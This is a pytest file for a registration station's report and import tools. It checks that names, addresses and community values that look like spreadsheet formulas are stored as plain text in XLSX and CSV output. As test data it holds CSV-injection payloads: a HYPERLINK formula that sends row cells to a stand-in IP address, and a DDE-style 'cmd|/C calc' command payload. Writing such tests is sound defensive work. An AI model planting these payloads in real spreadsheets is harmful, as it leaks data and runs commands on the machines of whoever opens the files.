"""Every spreadsheet the station writes keeps text as text: a name or address that starts like a
formula (``=HYPERLINK("http://…?"&B2&C2)`` would send the row away when the file is opened) is
stored as a string cell with the quote prefix in XLSX, and with a leading apostrophe in CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from station.import_sheets import write_error_sheet, write_template
from station.importer import ImportResult
from station.reports import report_data
from station.reports.writers import write_csv, write_referrals, write_xlsx
from station.spreadsheet import FORMULA_STARTS, csv_cell, looks_like_formula
from tests.conftest import run_cli

TODAY = dt.date.today()
LEAK = 'HYPERLINK("http://203.0.113.9/?"&B2&C2,"详情")'
PAYLOADS = [p + LEAK for p in FORMULA_STARTS] + ["-1+2", "@SUM(1+1)*cmd|' /C calc'!A0"]


def all_cells(path: Path):
    wb = load_workbook(path)  # not read-only: formulas come back as data_type "f"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_text_only(path: Path, expected: list[str]) -> None:
    """No formula anywhere; each payload present, as a string cell with the quote prefix."""
    found = {}
    for cell in all_cells(path):
        assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
        if isinstance(cell.value, str):
            found[cell.value] = cell
    for text in expected:
        text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert text in found, f"{text!r} missing from {path.name}"
        cell = found[text]
        assert cell.data_type == "s"
        assert cell.quotePrefix, f"{path.name} {cell.coordinate} has no quote prefix"


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def hostile_report(station) -> dict:
    data = report_data(station.login("super"), TODAY)
    data["station_name"] = PAYLOADS[0]
    data["by_community"] = {p: i for i, p in enumerate(PAYLOADS)}
    data["by_operator"] = {p: 1 for p in PAYLOADS}
    data["coverage_by_community"] = [
        {
            "community": p,
            "registered": 1,
            "population": 10,
            "coverage_percent": 10.0,
            "meets_target": False,
        }
        for p in PAYLOADS
    ]
    return data


def test_report_xlsx_keeps_formula_like_text_as_text(station, tmp_path):
    data = hostile_report(station)
    write_xlsx(data, tmp_path / "r.xlsx")
    assert_text_only(tmp_path / "r.xlsx", PAYLOADS)


def test_report_csv_escapes_formula_like_text(station, tmp_path):
    data = hostile_report(station)
    write_csv(data, tmp_path / "r.csv")
    cells = [c for row in read_csv(tmp_path / "r.csv") for c in row]
    assert not [c for c in cells if looks_like_formula(c)]
    for p in PAYLOADS:
        assert "'" + p in cells
    assert "0" in cells and "'-1+2" in cells  # numbers stay numbers; text "-1+2" is escaped


def test_referral_lists_keep_formula_like_text_as_text(tmp_path):
    rows = [
        {"number": "1", "name": p, "phone": p, "community": p, "address": p, "children": p}
        for p in PAYLOADS
    ]
    files = write_referrals({"employment": rows, "education": rows}, tmp_path / "lists")
    assert len(files) == 2
    for name in files:
        assert_text_only(tmp_path / "lists" / name, PAYLOADS)


def test_import_error_sheet_and_template_keep_text(tmp_path):
    result = ImportResult(header=["person.name", *PAYLOADS])
    result.bad_rows = [(i + 2, [p, p, "\x00nul", 7], p) for i, p in enumerate(PAYLOADS)]
    write_error_sheet(result, tmp_path / "errors.xlsx")
    assert_text_only(tmp_path / "errors.xlsx", PAYLOADS)
    values = [c.value for c in all_cells(tmp_path / "errors.xlsx")]
    assert "\ufffdnul" in values and 7 in values  # a NUL cannot be stored; numbers stay numbers
    write_template(tmp_path / "template.xlsx")
    assert not [c for c in all_cells(tmp_path / "template.xlsx") if c.data_type == "f"]


def test_csv_cell_rule():
    for p in FORMULA_STARTS:
        assert csv_cell(p + "x") == "'" + p + "x"
    assert csv_cell("张三") == "张三" and csv_cell(5) == 5 and csv_cell(None) is None
    assert csv_cell(" =1") == " =1"  # only the first character counts (OWASP)


# -- end to end: a stored address and an imported name, through the real command line ---------
def test_cli_referrals_and_error_sheet_hold_the_payload_as_text(station, tmp_path):
    from station.samples import sample_record

    record = sample_record()
    address = '=HYPERLINK("http://x.test/?"&B2&C2)'
    record["residence"]["address"] = address
    record["services"] = ["employment"]
    (tmp_path / "app.json").write_text(json.dumps(record, ensure_ascii=False), encoding="utf-8")
    added = run_cli("--json", "app", "add", str(tmp_path / "app.json"), env=station.env())
    assert added.returncode == 0, added.stderr
    out = run_cli(
        "report",
        "referrals",
        "--date",
        TODAY.isoformat(),
        "--out",
        str(tmp_path / "lists"),
        env=station.env("super"),
    )
    assert out.returncode == 0, out.stderr
    (listing,) = (tmp_path / "lists").iterdir()
    assert_text_only(listing, [address])

    sheet = tmp_path / "drive.csv"
    sheet.write_text(
        "person.id_number,person.name,residence.address\n11010519491231002X,=1+2,@x\n",
        encoding="utf-8",
    )
    out = run_cli(
        "import", str(sheet), "--errors", str(tmp_path / "rejected.xlsx"), env=station.env()
    )
    assert out.returncode == 4, out.stderr
    assert_text_only(tmp_path / "rejected.xlsx", ["=1+2", "@x"])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_report_with_a_formula_like_community(station, tmp_path, fmt):
    supervisor = station.login("super")
    supervisor.config_set("report.community_population", "+SUM(A1)=200;@cmd=100")
    out = run_cli(
        "report",
        "daily",
        "--date",
        TODAY.isoformat(),
        "--format",
        fmt,
        "--out",
        str(tmp_path / f"r.{fmt}"),
        env=station.env("super"),
    )
    assert out.returncode == 0, out.stderr
    if fmt == "xlsx":
        assert_text_only(tmp_path / "r.xlsx", ["+SUM(A1)", "@cmd"])
    else:
        cells = [c for row in read_csv(tmp_path / "r.csv") for c in row]
        assert (
            "'+SUM(A1)" in cells
            and "'@cmd" in cells
            and not [c for c in cells if looks_like_formula(c)]
        )


def test_profile_and_import_templates_keep_text(tmp_path):
    """The station profile's own template and the import template with the profile's sheet of
    communities (names that came from a file or the central service) keep text as text."""
    from station.profile import Community, Profile, StationInfo, Street
    from station.profile.files import write_template as write_profile_template

    payload = PAYLOADS[0]
    profile = Profile(
        version="2026.1",
        city="4501",
        streets=(Street("450103001", payload),),
        communities=(Community("450103001001", PAYLOADS[1], "450103001", payload),),
        station=StationInfo(name=PAYLOADS[2], address=PAYLOADS[3], phone="0771-5550000"),
    )
    write_profile_template(tmp_path / "profile.xlsx", profile)
    assert_text_only(tmp_path / "profile.xlsx", PAYLOADS[:4])
    write_template(tmp_path / "import.xlsx", profile)
    assert_text_only(tmp_path / "import.xlsx", PAYLOADS[:2])
